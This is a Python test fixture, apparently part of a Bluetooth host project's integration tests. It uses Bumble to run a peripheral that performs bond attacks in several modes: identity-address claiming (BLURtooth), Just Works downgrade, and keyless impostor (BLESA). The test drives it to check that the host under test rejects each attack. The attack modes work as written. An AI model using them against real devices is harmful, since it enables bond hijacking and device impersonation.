#!/usr/bin/env python3
"""A Bumble peripheral that attacks a central's bonds, for the bond-rules suite over the HCI
backend (Tests/HaraldHCIBackendTests/BondAttackBumbleIntegrationTests.swift), steered by the test.

The attacks (issue 25; BLURtooth, CVE-2020-15802, and BLESA, Wu et al., WOOT 2020):
  claim      pairs Just Works and distributes, in Identity Address Information, the identity
             address of another device the central has bonded with (--claim). A host that keys
             bonds by the distributed identity without checking it against the connection lets
             this overwrite the real device's bond. A secure host refuses: Pairing Failed (the
             identity is not the address the link comes from).
  downgrade  the device the central bonded with using Passkey Entry (MITM) pairs again, Just
             Works, keeping its old key so the central re-encrypts first. A secure host never lets
             an unauthenticated pairing replace an authenticated bond: Pairing Failed, bond kept.
  impostor   a device at a bonded device's address with no key for the central, that never asks
             for security and serves its characteristics in clear. A secure host encrypts a bonded
             peer before its first request; the LTK Request gets a negative reply (PIN or Key
             Missing), and the host ends the link without reading anything.
  honest     pairs with Passkey Entry (it displays --passkey, MITM, LE Secure Connections) and
             keeps its bond: how the central bonds with the device in the first place.

It serves one service (5EC0A001-…) with an open characteristic (5EC0A002-…, "open") and one that
needs encryption (5EC0A003-…, "encrypted"), and records every read with whether the link was
encrypted then.

Control channel: TCP on 127.0.0.1, one JSON object per line, answered by one line
{"ok": true, ...} or {"ok": false, "error": ...}:
  {"op": "mode", "mode": "honest" | "claim" | "downgrade" | "impostor"}
      claim and downgrade pair Just Works; impostor also forgets every key it holds.
  {"op": "reset"}   counters and records cleared (the mode and the keys stay)
  {"op": "status"}  -> {"mode", "started", "completed", "failed", "last_failure" (int or null),
                        "reads": [{"uuid", "encrypted"}], "encrypted" (newest link),
                        "connected", "disconnections": [reason, ...], "ltk_requests",
                        "ltk_refused": LTK Requests it had no key for, "smp_received": [codes],
                        "bonds": how many keys it holds}
Prints "CONTROL <port>" and "READY <address>", and one line per event (PAIRING FAILED
reason=0x.., READ uuid encrypted=.., DISCONNECTED reason=0x..); serves until killed.
"""
import argparse

from bumble import hci
from bumble.gatt import Characteristic, CharacteristicValue, Service
from bumble.pairing import PairingConfig, PairingDelegate

import attacker as kit  # same directory: what the steered Bumble peers share

SERVICE = "5EC0A001-7A1D-4C3B-9E2F-1B0A5D6C7E8F"
OPEN = "5EC0A002-7A1D-4C3B-9E2F-1B0A5D6C7E8F"
ENCRYPTED = "5EC0A003-7A1D-4C3B-9E2F-1B0A5D6C7E8F"
SMP = 0x0006
MODES = ("honest", "claim", "downgrade", "impostor")


class Attacker:
    def __init__(self, device, claim, passkey):
        self.device = device
        self.own = device.random_address  # the static address it connects from
        self.claim = claim
        self.passkey = passkey
        self.mode = "honest"
        self.newest = None
        self.clear()
        device.pairing_config_factory = self.pairing_config
        device.on("connection", self.on_connection)
        device.on("pairing_start", lambda connection: self.count("started", "PAIRING started"))
        device.host.on("l2cap_pdu", self.on_l2cap_pdu)
        device.host.long_term_key_provider = self.long_term_key
        props, perms = Characteristic.Properties, Characteristic.Permissions
        device.add_service(Service(SERVICE, [
            Characteristic(OPEN, props.READ, perms.READABLE, CharacteristicValue(read=lambda c: self.read(OPEN, c, b"open"))),
            Characteristic(ENCRYPTED, props.READ, perms.READABLE | perms.READ_REQUIRES_ENCRYPTION,
                           CharacteristicValue(read=lambda c: self.read(ENCRYPTED, c, b"encrypted"))),
        ]))

    def clear(self):
        self.counts = {"started": 0, "completed": 0, "failed": 0}
        self.last_failure = None
        self.reads = []
        self.disconnections = []
        self.ltk_requests = 0
        self.ltk_refused = 0
        self.smp_received = []

    def count(self, key, line):
        self.counts[key] += 1
        kit.say(line)

    def pairing_config(self, connection):
        honest = self.mode == "honest"
        # The identity it distributes: its own static address, or (claim) the bonded device's.
        self.device.static_address = hci.Address(self.claim) if self.mode == "claim" and self.claim else self.own
        # It shows the passkey in honest mode, and has no IO otherwise; it accepts everything.
        delegate = kit.AcceptingDelegate(
            io=PairingDelegate.DISPLAY_OUTPUT_ONLY if honest else PairingDelegate.NO_OUTPUT_NO_INPUT, passkey=self.passkey)
        return PairingConfig(sc=True, mitm=honest, bonding=True, delegate=delegate,
                             identity_address_type=PairingConfig.AddressType.RANDOM)

    def read(self, uuid, connection, value):
        encrypted = bool(connection.is_encrypted)
        self.reads.append({"uuid": uuid, "encrypted": encrypted})
        kit.say(f"READ {uuid} encrypted={encrypted}")
        return value

    def on_connection(self, connection):
        self.newest = connection
        kit.say(f"CONNECTED {connection.peer_address}")
        connection.on("pairing", lambda keys: self.count("completed", "PAIRED"))
        connection.on("pairing_failure", self.on_pairing_failure)
        connection.on("disconnection", self.on_disconnection)

    def on_pairing_failure(self, reason):
        self.last_failure = int(reason)
        self.count("failed", f"PAIRING FAILED reason=0x{int(reason):02X}")

    def on_disconnection(self, reason):
        self.disconnections.append(int(reason))
        kit.say(f"DISCONNECTED reason=0x{int(reason):02X}")

    def on_l2cap_pdu(self, handle, cid, pdu):
        if cid == SMP and pdu:
            self.smp_received.append(pdu[0])

    async def long_term_key(self, handle, rand, ediv):
        self.ltk_requests += 1
        key = await self.device.get_long_term_key(handle, rand, ediv)
        if key is None:
            self.ltk_refused += 1
            kit.say("LTK REQUEST refused: no key")
        return key

    async def control(self, request):
        op = request.get("op")
        if op == "mode":
            mode = request.get("mode")
            if mode not in MODES:
                raise ValueError(f"unknown mode {mode!r}")
            self.mode = mode
            if mode == "impostor" and self.device.keystore:
                await self.device.keystore.delete_all()
            return {}
        if op == "reset":
            self.clear()
            return {}
        if op == "status":
            connections = list(self.device.connections.values())
            bonds = await self.device.keystore.get_all() if self.device.keystore else []
            return {**self.counts, "mode": self.mode, "last_failure": self.last_failure, "reads": self.reads,
                    "encrypted": bool(self.newest and self.newest in connections and self.newest.is_encrypted),
                    "connected": len(connections), "disconnections": self.disconnections,
                    "ltk_requests": self.ltk_requests, "ltk_refused": self.ltk_refused,
                    "smp_received": self.smp_received, "bonds": len(bonds)}
        raise ValueError(f"unknown op {op!r}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--transport", required=True, help="e.g. tcp-client:127.0.0.1:9001")
    parser.add_argument("--address", required=True, help="its static random address, e.g. C0:00:00:00:00:1D")
    parser.add_argument("--claim", help="claim mode: the identity address it distributes instead of its own")
    parser.add_argument("--name", default="Harald-ATK")
    parser.add_argument("--passkey", type=int, default=123456, help="honest mode: the passkey it displays")
    parser.add_argument("--control-port", type=int, default=0)
    args = parser.parse_args()
    kit.main(kit.run_peer(args.transport, args.address, args.name, lambda device: Attacker(device, args.claim, args.passkey),
                          control_port=args.control_port, advertising=kit.advertising_data(args.name)))


if __name__ == "__main__":
    main()
